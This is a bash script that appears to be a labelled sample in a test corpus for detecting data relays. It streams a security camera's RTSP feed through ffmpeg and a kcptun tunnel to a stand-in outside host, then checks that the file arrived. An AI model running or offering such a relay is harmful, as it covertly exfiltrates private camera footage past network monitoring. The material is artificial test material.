#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=loopback-relay,live-relay half=tune tool=ffmpeg,kcptun-client camera=10.20.0.11 far=out ready=out:29900 seconds=45 parts=dns,camera-gate,recorder-gate,nas,outside-web
# ffmpeg sends gate to a local port; kcptun carries it outside over UDP, encrypted and with what mends losses.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; timeout 70 socat -u TCP-LISTEN:9990,bind=127.0.0.1,reuseaddr "CREATE:$LAB/away/see.ts" & exec timeout 70 kcptun-server -l 203.0.113.66:29900 -t 127.0.0.1:9990 --key lab --quiet >/dev/null 2>&1; fi
timeout 50 kcptun-client -l 127.0.0.1:12948 -r 203.0.113.66:29900 --key lab --quiet >/dev/null 2>&1 & sleep 1
ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 42 -c copy -f mpegts tcp://127.0.0.1:12948
sleep 2; kill %1; wait; [ "$(stat -c %s "$LAB/away/see.ts")" -gt 500000 ]
